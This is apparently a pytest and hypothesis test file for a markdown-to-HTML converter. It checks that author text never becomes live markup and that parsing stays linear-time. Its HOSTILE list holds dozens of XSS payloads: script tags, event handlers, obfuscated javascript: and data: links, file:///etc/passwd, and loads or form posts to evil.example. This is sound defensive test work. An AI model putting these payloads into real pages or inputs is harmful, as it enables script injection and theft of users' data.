"""Nothing an author types becomes live markup, and nothing makes the converter slow."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gazette.markup import convert, judge_target, scan_body

ALLOWED = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height", "loading", "decoding"},
    "ol": {"start"},
    "li": {"value"},
    "th": {"scope", "rowspan", "colspan", "class"},
    "td": {"data-label", "rowspan", "colspan", "class"},
    "div": {"class", "role", "tabindex", "aria-label"},
    **{tag: {"id"} for tag in ("h2", "h3", "h4", "h5", "h6")},
    **{tag: set() for tag in ("p", "br", "hr", "ul", "blockquote", "pre", "code")},
    **{tag: set() for tag in ("table", "thead", "tbody", "tfoot", "tr", "caption")},
    **{tag: set() for tag in ("b", "strong", "i", "em", "u", "s", "del", "ins", "mark", "small", "sub", "sup")},
    **{tag: set() for tag in ("kbd", "ruby", "rt", "rp")},
}
CLASSES = {"table-scroll", "align-center", "align-right"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example>",
    "<form action=https://evil.example><input name=phone><button>提交</button></form>",
    "<object data=x.swf></object><embed src=x>",
    "<a href='javascript:alert(1)' onclick=alert(1)>点此</a>",
    "<b onmouseover=alert(1)>重要</b>",
    "<u style='position:fixed;inset:0'>遮盖</u>",
    "<p id=search class=md-header>",
    "[点此](javascript:alert(1))",
    "[点此](JaVaScRiPt:alert(1))",
    "[点此](java\tscript:alert(1))",
    "[点此](java&#x0A;script:alert(1))",
    "[点此](javascript&colon;alert(1))",
    "[点此](&#106;avascript:alert(1))",
    "[点此](\x01javascript:alert(1))",
    "[点此](  javascript:alert(1))",
    "[点此](javascript%3Aalert(1))",
    "[点此](%6Aavascript:alert(1))",
    "[点此](ｊavascript：alert(1))",
    "[点此](vbscript:msgbox(1))",
    "[点此](data:text/html;base64,PHNjcmlwdD4=)",
    "[点此](DATA:text/html,<script>alert(1)</script>)",
    "[点此](file:///etc/passwd)",
    "[点此](//evil.example/x)",
    "[点此](/\\evil.example/x)",
    "[点此](\\\\evil.example\\x)",
    "[点此](https:evil.example)",
    "[点此]: javascript:alert(1)\n\n[点此]",
    "[x][a]\n\n[a]: data:text/html,x",
    "<javascript:alert(1)>",
    "![图](javascript:alert(1))",
    "![图](data:image/svg+xml;base64,PHN2Zz4=)",
    '![" onerror="alert(1)](x.png)',
    '[x](a.md "\\" onmouseover=\\"alert(1)")',
    "[x](a.md' onmouseover='alert(1))",
    '[x](a.md"onmouseover="alert(1))',
    "![x](<a.png onerror=alert(1)>)",
    "## <img src=x onerror=alert(1)>",
    '## "><script>alert(1)</script>',
    "| <script>alert(1)</script> | b |\n|---|---|\n| <svg onload=alert(1)> | y |",
    "<table><tr><td onclick=alert(1)><script>alert(1)</script><img src=x onerror=alert(1)></td></tr></table>",
    "<table><tr><td><a href=javascript:alert(1)>x</a><form><input></form></td></tr></table>",
    "<table background=javascript:alert(1) style='position:fixed'><tr><td>x</td></tr></table>",
    "<table><style></table>",
    "<table><!-- </table>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "<b><i></b><script>alert(1)</script></i>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ config }} {% include 'x' %} {# x #} {{{x}}} [x]({{y}}) ![x]({%y%})",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<x-foo onfocus=alert(1) tabindex=1 autofocus>",
    "<details open ontoggle=alert(1)>",
    "<a\x0chref=javascript:alert(1)>x</a>",
]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.odd.append(data)

    def handle_decl(self, decl: str) -> None:
        self.odd.append(decl)

    def handle_pi(self, data: str) -> None:
        self.odd.append(data)


def assert_harmless(html: str) -> None:
    elements = _Elements()
    elements.feed(html)
    elements.close()
    assert elements.odd == []
    for tag, attributes in elements.found:
        assert tag in ALLOWED, tag
        assert set(attributes) <= ALLOWED[tag], (tag, attributes)
        assert set((attributes.get("class") or "").split()) <= CLASSES
        for name in ("href", "src"):
            if (target := attributes.get(name)) is not None:
                assert judge_target(target).odd == "", target
    assert not re.search(r"\{\{|\{%|\{#", html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_harmless(text: str) -> None:
    assert_harmless(convert(text).html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_harmless_inside_other_marks(text: str) -> None:
    for frame in ("- {}", "> {}", "**{}**", "1. {}\n   {}", "a\t{}\nb\t{}", "<u>{}</u>", "# {}", "[{}](x.md)"):
        assert_harmless(convert(frame.replace("{}", text)).html)


_PIECES = st.sampled_from(
    [
        *HOSTILE,
        "**",
        "*",
        "_",
        "`",
        "```",
        "\n",
        "\n\n",
        "[",
        "](",
        ")",
        "<",
        ">",
        "<b>",
        "</b>",
        "<table>",
        "</table>",
        "<!--",
        "-->",
        "|",
        "\n|---|---|\n",
        "\t",
        "- ",
        "1. ",
        "> ",
        "## ",
        "\\",
        "&",
        "&amp;",
        "业主",
        "8:00~12:00",
        "https://example.com/(a)",
        "!",
        "javascript:",
        "\u3000",
        "    ",
        "{",
        "{{",
        "%}",
        "===",
        "\r\n",
        "\u2028",
        "😀",
    ]
)


@given(st.lists(_PIECES, max_size=30).map("".join))
@settings(max_examples=200, deadline=None)
def test_any_mix_of_marks_comes_out_harmless(text: str) -> None:
    assert_harmless(convert(text).html)


@given(st.text(max_size=400))
@settings(max_examples=200, deadline=None)
def test_any_text_comes_out_harmless(text: str) -> None:
    assert_harmless(convert(text).html)


@given(st.lists(_PIECES, max_size=30).map("".join))
@settings(max_examples=200, deadline=None)
def test_scanner_and_converter_agree_on_headings_links_and_pictures(text: str) -> None:
    converted, scanned = convert(text.replace("\x00", "").replace("\x01", "")), scan_body(text)
    if "\x00" in text or "\x01" in text:
        return
    assert [(h.anchor, h.text) for h in converted.headings] == [(h.anchor, h.text) for h in scanned.headings]
    safe_links = [link.target for link in scanned.links if not link.odd and link.target]
    assert sorted(converted.links) == sorted(safe_links)
    safe_pictures = [p.target for p in scanned.images if not p.odd and p.target and p.scheme not in {"mailto", "tel"}]
    assert sorted(converted.pictures) == sorted(safe_pictures)


@pytest.mark.parametrize("sign", ["\x0b", "\x0c"])
def test_a_new_page_inside_a_tag_is_a_blank_to_scanner_and_converter_alike(sign: str) -> None:
    text = f"## <a{sign}href=x.md>停水</a> [通知{sign}全文](x.md)"
    converted, scanned = convert(text), scan_body(text)
    assert [h.text for h in converted.headings] == [h.text for h in scanned.headings]
    assert list(converted.links) == [link.target for link in scanned.links]


@given(st.lists(_PIECES, max_size=12).map("".join), st.lists(_PIECES, max_size=12).map("".join))
@settings(max_examples=100, deadline=None)
def test_a_conversion_leaves_nothing_behind_for_the_next(first: str, second: str) -> None:
    alone = convert(second)
    convert(first)
    assert convert(second) == alone


ENDLESS = [
    "[",
    "![",
    "(",
    "](",
    "[a](",
    "<",
    "<!--",
    "<b>",
    "</b>",
    "<a ",
    "`",
    "` ``",
    "*",
    "**a ",
    "_a ",
    "**a *b ",
    "&",
    "\\",
    "# ",
    "#\n",
    "- ",
    "-",
    "1. a\n",
    "- a\n  - b\n",
    "    - a\n",
    "> ",
    "> a\n",
    "|",
    "|-",
    "a|b\n",
    "\t",
    "a\tb\n",
    "```\n",
    "<table>\n",
    "</table>\n",
    "<!--\n",
    "-->\n",
    "[a]: b.c\n",
    "[a]",
    "https://a.",
    "王**",
    "（.",
    "[a]（.",
    " ",
    "\n",
    "=",
    "a=",
    "a='",
    "<a x=",
    "# a ",
    "[x](a ",
    "{{",
    "javascript:",
    "data:a/",
    "x<",
    "\u3000",
    "a\n",
]


@pytest.mark.parametrize("piece", ENDLESS)
def test_a_long_text_of_one_mark_is_converted_and_scanned(piece: str) -> None:
    """Only ends in reasonable time when every step is linear in the length of the text."""
    _convert_and_scan(piece, length=60_000)


@pytest.mark.soak
@pytest.mark.parametrize("piece", ENDLESS)
def test_a_megabyte_of_one_mark_is_converted_and_scanned(piece: str) -> None:
    """The largest file there may be."""
    _convert_and_scan(piece, length=1_000_000)


def _convert_and_scan(piece: str, *, length: int) -> None:
    text = (piece * (length // len(piece) + 1))[:length]
    assert_harmless(convert(text).html)
    scan_body(text)


@pytest.mark.parametrize("head", ["# a", "|a|b|\n|-", "[x](", '[x](a "', "- ", "=", "[a]: ", "a\t", "<a b", "**"])
def test_long_runs_of_blanks_behind_a_mark_cost_nothing(head: str) -> None:
    text = head + " " * 200_000 + "x"
    assert_harmless(convert(text).html)
    scan_body(text)
